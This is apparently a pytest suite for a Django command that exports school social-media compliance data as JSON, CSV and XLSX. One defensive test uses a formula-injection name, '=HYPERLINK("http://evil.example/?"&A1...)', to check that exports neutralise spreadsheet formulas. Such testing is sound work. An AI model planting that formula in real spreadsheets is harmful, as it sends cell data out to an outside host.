"""`manage.py export_compliance` (DESIGN §5): the JSON keys others script against, a page
not registered, weeks oldest first, CSV and XLSX that read back, the organization's status
as the worst of its pages and paperwork, and values kept from an earlier sweep marked stale."""

from __future__ import annotations

import csv
import datetime
import io
import json
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.core.management import CommandError, call_command

from checklist.models import ChecklistEntry, WorkStatus
from monitoring.audience import FIGURES
from monitoring.models import SweepRun
from monitoring.tests.sweeping import SCHOOL_VK, make_world, point_settings, register, run_sweep
from tests.factories import DistrictFactory, OrganizationFactory

pytestmark = pytest.mark.django_db

MOSCOW = ZoneInfo("Europe/Moscow")

ORGANIZATION_KEYS = {"short_name", "name", "kind", "status", "communities", "checklist"}
# DESIGN §5: "keys may be added, not renamed". These are the additions, and only these.
ORGANIZATION_ADDED = {"district", "audience", "rating"}
CHECKLIST_KEYS = {"code", "status", "verdict"}
CHECKLIST_ADDED = {"due_date"}
COMMUNITY_KEYS = {
    "network", "url", "external_id", "status", "checked_at", "is_community", "gov_mark", "posts_total",
    "weekly_posts", "current_week", "regular", "posts_not_from_community", "reposts_from_personal_pages",
    "missing_info", "closed", "deactivated", "error",
}
COMMUNITY_ADDED = ["stale", *FIGURES]  # at the end of each entry, in this order
# What a sweep that could not read the wall keeps from before, in the export's key order.
POST_DERIVED = [
    "posts_total", "weekly_posts", "current_week", "regular", "posts_not_from_community", "reposts_from_personal_pages",
]
POST_DERIVED_WORDS = (
    "публикаций всего, по неделям, текущая неделя, регулярность, публикации не от имени сообщества, "
    "репосты с личных страниц"
)


@pytest.fixture
def world(db, settings, run_simulator):
    world = make_world()
    # A third school has a VK community and no OK page at all.
    world.lonely = OrganizationFactory(short_name="СОШ №103", name="МБОУ СОШ №103")
    register(world.lonely, "vk", f"https://vk.com/club{SCHOOL_VK + 2}")
    world.scenario["vk"]["groups"].append(
        {**world.scenario["vk"]["groups"][0], "id": SCHOOL_VK + 2, "name": "МБОУ СОШ №103"}
    )
    world.simulator = run_simulator(world.scenario)
    point_settings(settings, world.simulator)
    run_sweep()
    return world


def export(fmt: str, tmp_path) -> bytes:
    path = tmp_path / f"export.{fmt}"
    call_command(
        "export_compliance", "--format", fmt, "--output", str(path), stdout=io.StringIO(), stderr=io.StringIO()
    )
    return path.read_bytes()


def export_json(tmp_path) -> dict:
    return json.loads(export("json", tmp_path).decode("utf-8"))


def organization(data: dict, short_name: str) -> dict:
    return next(org for org in data["organizations"] if org["short_name"] == short_name)


def approve_paperwork(organization, *, except_code: str | None = None) -> None:
    entries = ChecklistEntry.objects.filter(organization=organization, item__mode="manual")
    entries.exclude(item__code=except_code).update(status=WorkStatus.APPROVED)


def test_the_json_export_has_exactly_the_designed_keys(world, tmp_path):
    data = export_json(tmp_path)

    assert set(data) == {"generated_at", "rules", "organizations"}
    assert datetime.datetime.fromisoformat(data["generated_at"]).tzinfo is not None
    assert data["rules"] == {"weeks": 4, "posts_per_week_min": 3, "posts_total_min": 2}
    assert len(data["organizations"]) == 3
    for org in data["organizations"]:
        assert ORGANIZATION_KEYS <= set(org) <= ORGANIZATION_KEYS | ORGANIZATION_ADDED
        assert org["kind"] == "school" and org["status"] in {"ok", "warning", "fail", "unknown"}
        assert [c["network"] for c in org["communities"]] == ["vk", "ok"]
        for item in org["checklist"]:
            assert CHECKLIST_KEYS <= set(item) <= CHECKLIST_KEYS | CHECKLIST_ADDED
    community = organization(data, "СОШ №101")["communities"][0]
    assert set(community) == COMMUNITY_KEYS | set(COMMUNITY_ADDED)
    assert list(community)[-len(COMMUNITY_ADDED):] == COMMUNITY_ADDED
    assert community["url"] == f"https://vk.com/club{SCHOOL_VK}" and community["external_id"] == str(SCHOOL_VK)
    assert community["status"] == "ok" and community["error"] is None
    assert community["is_community"] is True and community["gov_mark"] is True
    assert community["posts_total"] == 46 and community["regular"] is True
    assert community["missing_info"] == [] and community["closed"] is False and community["deactivated"] is False
    assert datetime.datetime.fromisoformat(community["checked_at"]).tzinfo is not None


def test_a_network_without_a_page_is_exported_as_missing_and_failing(world, tmp_path):
    lonely = organization(export_json(tmp_path), "СОШ №103")

    assert lonely["communities"][1] == {"network": "ok", "url": None, "missing": True, "status": "fail", "stale": None}
    assert lonely["status"] == "fail"


def test_weekly_posts_are_the_window_weeks_oldest_first_from_monday(world, tmp_path):
    community = organization(export_json(tmp_path), "СОШ №101")["communities"][0]

    weeks = [datetime.date.fromisoformat(week["week_start"]) for week in community["weekly_posts"]]
    assert len(weeks) == 4
    assert all(day.isoweekday() == 1 for day in weeks)
    assert weeks == sorted(weeks) and all((b - a).days == 7 for a, b in zip(weeks, weeks[1:]))
    assert [week["posts"] for week in community["weekly_posts"]] == [4, 4, 4, 4]
    current = datetime.date.fromisoformat(community["current_week"]["week_start"])
    assert current.isoweekday() == 1 and (current - weeks[-1]).days == 7


def test_the_csv_export_reads_back_with_the_csv_module(world, tmp_path):
    raw = export("csv", tmp_path)

    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel opens the Cyrillic right
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 6  # three organizations × two networks
    school_vk = next(r for r in rows if r["short_name"] == "СОШ №101" and r["network"] == "vk")
    assert school_vk["name"] == "МБОУ СОШ №101"
    assert school_vk["status"] == "ok" and school_vk["gov_mark"] == "True"
    assert school_vk["posts_total"] == "46" and school_vk["weekly_posts"] == "4 4 4 4"
    assert school_vk["checklist_vk_gov_mark"] == "not_started/compliant"
    missing = next(r for r in rows if r["short_name"] == "СОШ №103" and r["network"] == "ok")
    assert missing["missing"] == "True" and missing["status"] == "fail" and missing["url"] == ""


def test_the_xlsx_export_reads_back_with_openpyxl(world, tmp_path):
    raw = export("xlsx", tmp_path)

    sheet = openpyxl.load_workbook(io.BytesIO(raw)).active
    header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert {"short_name", "network", "status", "gov_mark", "posts_total", "organization_status"} <= set(header)
    assert len(rows) == 6
    records = [dict(zip(header, row)) for row in rows]
    school_ok = next(r for r in records if r["short_name"] == "СОШ №101" and r["network"] == "ok")
    assert school_ok["status"] == "ok" and school_ok["gov_mark"] is True and school_ok["posts_total"] == 32


def test_the_xlsx_export_needs_an_output_file(world):
    with pytest.raises(CommandError):
        call_command("export_compliance", "--format", "xlsx", stdout=io.StringIO(), stderr=io.StringIO())


def test_the_json_export_goes_to_standard_output_without_output(world):
    out = io.StringIO()

    call_command("export_compliance", "--format", "json", stdout=out, stderr=io.StringIO())

    assert len(json.loads(out.getvalue())["organizations"]) == 3


def test_an_organization_with_every_page_ok_and_every_paper_approved_is_ok(world, tmp_path):
    approve_paperwork(world.school)

    assert organization(export_json(tmp_path), "СОШ №101")["status"] == "ok"


def test_a_paper_not_yet_approved_before_its_due_date_makes_a_warning(world, tmp_path):
    approve_paperwork(world.school, except_code="instruction")  # no due date

    assert organization(export_json(tmp_path), "СОШ №101")["status"] == "warning"


def test_a_paper_not_approved_after_its_due_date_makes_a_failure(world, tmp_path):
    approve_paperwork(world.school, except_code="order_responsible")  # due 01.12.2022

    assert organization(export_json(tmp_path), "СОШ №101")["status"] == "fail"


def test_a_page_that_could_not_be_read_makes_the_organization_unknown_not_failing(
    world, settings, run_simulator, tmp_path
):
    approve_paperwork(world.school)
    approve_paperwork(world.neighbour, except_code="instruction")
    scenario = world.scenario_copy()
    scenario["faults"] = [{"network": "ok", "method": "group.getInfo", "error_code": 10}]
    point_settings(settings, run_simulator(scenario))
    run_sweep()

    data = export_json(tmp_path)

    assert organization(data, "СОШ №101")["status"] == "unknown"
    assert organization(data, "СОШ №102")["status"] == "unknown"  # unknown outranks a warning


def test_a_failing_page_outranks_everything_else(world, settings, run_simulator, tmp_path):
    approve_paperwork(world.school)
    scenario = world.scenario_copy()
    scenario["vk"]["groups"][0]["is_government_organization"] = False
    point_settings(settings, run_simulator(scenario))
    run_sweep()

    school = organization(export_json(tmp_path), "СОШ №101")

    assert school["communities"][0]["status"] == "fail" and school["communities"][1]["status"] == "ok"
    assert school["status"] == "fail"


# --- values kept from an earlier sweep (DESIGN §5 `stale`) ------------------------------------


def sweep_with_the_school_wall_failing(world, settings, run_simulator) -> None:
    """A second night on which the school's VK wall answers error 10 to every read."""
    scenario = world.scenario_copy()
    scenario["faults"] = [{"network": "vk", "method": "wall.get", "owner_id": str(-SCHOOL_VK), "error_code": 10}]
    point_settings(settings, run_simulator(scenario))
    run_sweep()


def sheet_records(fmt: str, tmp_path) -> list[dict]:
    raw = export(fmt, tmp_path)
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    header, *rows = openpyxl.load_workbook(io.BytesIO(raw)).active.iter_rows(values_only=True)
    return [dict(zip(header, row)) for row in rows]


def record(records: list[dict], short_name: str, network: str) -> dict:
    return next(r for r in records if r["short_name"] == short_name and r["network"] == network)


def test_every_page_read_whole_in_its_latest_sweep_is_not_stale(world, tmp_path):
    data = export_json(tmp_path)

    entries = [community for org in data["organizations"] for community in org["communities"]]
    assert len(entries) == 6  # five pages read, one network without a page
    assert all(community["stale"] is None for community in entries)


def test_a_page_never_swept_is_not_stale(world, tmp_path):
    newcomer = OrganizationFactory(short_name="СОШ №104", name="МБОУ СОШ №104")
    register(newcomer, "vk", "https://vk.com/club999")

    vk = organization(export_json(tmp_path), "СОШ №104")["communities"][0]

    assert vk["checked_at"] is None and vk["stale"] is None


def test_a_wall_unread_on_the_second_night_keeps_the_post_figures_marked_stale_with_the_first_nights_time(
    world, settings, run_simulator, tmp_path
):
    first = SweepRun.objects.get()
    sweep_with_the_school_wall_failing(world, settings, run_simulator)

    data = export_json(tmp_path)

    school_vk, school_ok = organization(data, "СОШ №101")["communities"]
    assert school_vk["status"] == "unknown" and school_vk["posts_total"] == 46  # the first night's, still shown
    assert school_vk["stale"] == {"fields": POST_DERIVED, "read_at": first.started_at.astimezone(MOSCOW).isoformat()}
    # Its info was read tonight, and so was every other page.
    assert school_ok["stale"] is None
    assert all(c["stale"] is None for c in organization(data, "СОШ №102")["communities"])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_csv_and_xlsx_say_in_words_which_values_are_stale_and_from_when(
    world, settings, run_simulator, tmp_path, fmt
):
    first = SweepRun.objects.get()
    sweep_with_the_school_wall_failing(world, settings, run_simulator)

    records = sheet_records(fmt, tmp_path)

    # Added after every column scripts already read, newest last.
    assert list(records[0])[-len(FIGURES) - 6:] == ["stale", "audience", *FIGURES, "rating_score", "rating_rank",
                                                    "rating_change", "district"]
    when = first.started_at.astimezone(MOSCOW).strftime("%d.%m.%Y %H:%M")
    assert record(records, "СОШ №101", "vk")["stale"] == f"устарело: {POST_DERIVED_WORDS} (данные от {when})"
    assert record(records, "СОШ №101", "vk")["posts_total"] in ("46", 46)
    assert record(records, "СОШ №101", "ok")["stale"] in ("", None)  # fresh: empty
    assert record(records, "СОШ №103", "ok")["stale"] in ("", None)  # no page


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_csv_and_xlsx_tell_two_districts_sosh_1_apart_by_their_district(db, tmp_path, fmt):
    for district in ("Кущевский район", "Ейский район"):
        OrganizationFactory(short_name="СОШ №1", district=DistrictFactory(name=district))

    records = [r for r in sheet_records(fmt, tmp_path) if r["short_name"] == "СОШ №1" and r["network"] == "vk"]

    assert sorted(r["district"] for r in records) == ["Ейский район", "Кущевский район"]


# --- text a spreadsheet would run, and paths it cannot write ---------------------------------------


FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1;"Открыть")'


def test_a_name_that_looks_like_a_formula_is_written_as_text_in_csv_and_xlsx(db, tmp_path):
    OrganizationFactory(short_name="+СОШ №104", name=FORMULA_NAME)

    csv_rows = list(csv.DictReader(io.StringIO(export("csv", tmp_path).decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(export("xlsx", tmp_path))).active

    assert {(row["short_name"], row["name"]) for row in csv_rows} == {("'+СОШ №104", "'" + FORMULA_NAME)}
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    header, *body = list(sheet.iter_rows(values_only=True))
    assert {(row[header.index("short_name")], row[header.index("name")]) for row in body} == {
        ("'+СОШ №104", "'" + FORMULA_NAME)
    }


@pytest.mark.parametrize(
    ("make_path", "message"),
    [
        (lambda tmp: tmp / "missing" / "export.csv", "Нет папки для файла"),
        (lambda tmp: tmp, "это папка, а нужен путь к файлу"),
        (lambda tmp: Path("/proc/export.csv"), "Не удалось записать /proc/export.csv"),
    ],
    ids=["missing folder", "a directory", "unwritable folder"],
)
def test_a_path_it_cannot_write_is_one_russian_line_and_leaves_nothing(db, tmp_path, make_path, message):
    OrganizationFactory(short_name="СОШ №105")

    with pytest.raises(CommandError) as failed:
        call_command(
            "export_compliance", "--format", "csv", "--output", str(make_path(tmp_path)),
            stdout=io.StringIO(), stderr=io.StringIO(),
        )

    assert message in str(failed.value) and "\n" not in str(failed.value)
    assert list(tmp_path.iterdir()) == []


# --- one district of several (--district) ------------------------------------------------------------


@pytest.fixture
def two_districts(db):
    yeysk = DistrictFactory(name="Ейский район")
    OrganizationFactory(short_name="Школа Альфа", district=DistrictFactory(name="Кущевский район"))
    OrganizationFactory(short_name="Школа Бета", district=yeysk)
    OrganizationFactory(short_name="Школа Гамма", district=yeysk)
    return yeysk


def export_of(fmt: str, tmp_path, *options: str) -> bytes:
    path = tmp_path / f"export.{fmt}"
    call_command(
        "export_compliance", "--format", fmt, "--output", str(path), *options,
        stdout=io.StringIO(), stderr=io.StringIO(),
    )
    return path.read_bytes()


def test_with_a_district_by_name_or_id_only_its_organizations_are_exported(two_districts, tmp_path):
    for district in ("ейский район", str(two_districts.pk)):
        data = json.loads(export_of("json", tmp_path, "--district", district))
        assert [org["short_name"] for org in data["organizations"]] == ["Школа Бета", "Школа Гамма"]
        assert {org["district"] for org in data["organizations"]} == {"Ейский район"}


def test_with_a_district_the_xlsx_has_only_its_rows(two_districts, tmp_path):
    header, *rows = openpyxl.load_workbook(
        io.BytesIO(export_of("xlsx", tmp_path, "--district", "Ейский район"))
    ).active.iter_rows(values_only=True)

    assert {row[header.index("short_name")] for row in rows} == {"Школа Бета", "Школа Гамма"}


def test_without_a_district_every_district_is_exported(two_districts, tmp_path):
    data = json.loads(export_of("json", tmp_path))

    assert {org["short_name"] for org in data["organizations"]} == {"Школа Альфа", "Школа Бета", "Школа Гамма"}


def test_a_district_that_does_not_exist_is_refused_and_nothing_written(two_districts, tmp_path):
    with pytest.raises(CommandError) as failed:
        export_of("json", tmp_path, "--district", "Тихий район")

    assert str(failed.value) == "Нет района «Тихий район». Районы: Ейский район, Кущевский район."
    assert list(tmp_path.iterdir()) == []
